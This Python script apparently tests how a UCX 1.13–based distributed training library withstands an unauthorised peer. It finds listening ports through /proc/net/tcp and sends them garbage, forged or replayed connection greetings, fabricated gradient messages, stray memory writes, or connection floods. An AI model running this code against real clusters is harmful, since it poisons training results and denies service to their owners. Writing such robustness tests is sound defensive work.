# SPDX-License-Identifier: Apache-2.0
"""Somebody without any right on a job, who can reach its nodes: connects to whatever listens.

    stranger.py ATTACK once|on DIRECTORY

Finds in /proc/net/tcp who listens on this host, leaves that in DIRECTORY, and takes from there who
listens on other hosts. ATTACK is garbage, greeting, replay, letter, message, put, silence or
flood. "once" attacks those that listen now and keeps its connections, "on" goes on attacking; both
end when they are killed. Says in a line of its own how many it could connect to.

Speaks the TCP protocol of UCX 1.13; other releases get the same bytes, as garbage.
"""
import os
import random
import socket
import struct
import sys
import time

MAGIC = 0xCAFEBABE12345678
CONNECT, PUT = 32, 33                  # UCX's own messages
EAGER, LETTER = 2, 23                  # those of its upper layer
REQUEST = 1                            # a kind of CONNECT
NOTE = 0                               # a kind of letter of libddp's


def message(kind, body):
    return struct.pack("<BI", kind, len(body)) + body


def greeting(address, number):
    """What UCX sends first: I am who listens at [address], this is my connection [number]."""
    place = struct.pack("<H", socket.AF_INET) + struct.pack(">H", address[1])
    place += socket.inet_aton(address[0]) + bytes(8)
    request = struct.pack("<IBQ", REQUEST, 0, number)
    return struct.pack("<Q", MAGIC) + message(CONNECT, request + place)


def letter(sender):
    text, header = b"a stranger was here", struct.pack("<ii", sender, NOTE)
    return message(LETTER, struct.pack("<HHI", 0, 0, len(header)) + text + header)


def gradients(sender, count, calls):
    """Messages of all-reduces to come: 666 for each number."""
    size = 4 * count
    check = (size ^ size >> 16) & 0xffff
    data = struct.pack("<f", 666) * count
    return b"".join(
        message(EAGER, struct.pack("<Q", sender << 44 | call << 28 | check << 12) + data)
        for call in range(1, calls))


def put():
    """Four bytes to an address where nothing may be."""
    return message(PUT, struct.pack("<QQI", 0x1000, 4, 0)) + b"boo!"


def listeners():
    found = []
    with open("/proc/net/tcp", encoding="ascii") as table:
        for line in table.readlines()[1:]:
            word = line.split()
            if word[3] == "0A":
                address, port = word[1].split(":")
                found.append((socket.inet_ntoa(struct.pack("<I", int(address, 16))), int(port, 16)))
    return found


def share(directory, found):
    """All who listen, here (loopback included) and elsewhere."""
    if found:
        name = f"{directory}/{os.getpid()}"
        with open(name + ".new", "w", encoding="ascii") as file:
            file.writelines(f"{address} {port}\n" for address, port in found
                            if not address.startswith("127."))
        os.rename(name + ".new", name)
    everybody = set(found)
    for entry in os.listdir(directory):
        if not entry.endswith(".new"):
            with open(f"{directory}/{entry}", encoding="ascii") as file:
                everybody |= {(line.split()[0], int(line.split()[1])) for line in file}
    return sorted(everybody)


def call(address):
    line = socket.socket()
    line.settimeout(0.5)
    try:
        line.connect(address)
    except OSError:
        line.close()
        return None
    return line


def speech(attack, address, everybody):
    mine = greeting(("10.213.7.77", random.randrange(1024, 65536)), 0)
    if attack == "garbage":
        return random.randbytes(65536)
    if attack == "greeting":
        return mine
    if attack == "replay":
        return b"".join(greeting(other, 0) for other in everybody[:1] if other != address)
    if attack == "letter":
        return mine + letter(0) + letter(1)
    if attack == "message":
        return mine + gradients(0, 16, 2000) + gradients(1, 16, 2000)
    if attack == "put":
        return mine + put()
    return b""


def attack_all(attack, everybody, lines):
    reached = 0
    for address in everybody:
        for _ in range(600 if attack == "flood" else 1):
            line = call(address)
            if not line:
                break
            reached += 1
            lines.append(line)
            try:
                line.sendall(speech(attack, address, everybody))
            except OSError:
                pass
    return reached


def main():
    attack, how, directory = sys.argv[1:]
    lines = []
    reached = attack_all(attack, share(directory, listeners()), lines)
    print(f"reached {reached}", flush=True)
    while how == "on":
        attack_all(attack, share(directory, listeners()), lines)
        del lines[:-2000]
        time.sleep(0.001)
    time.sleep(600)


main()
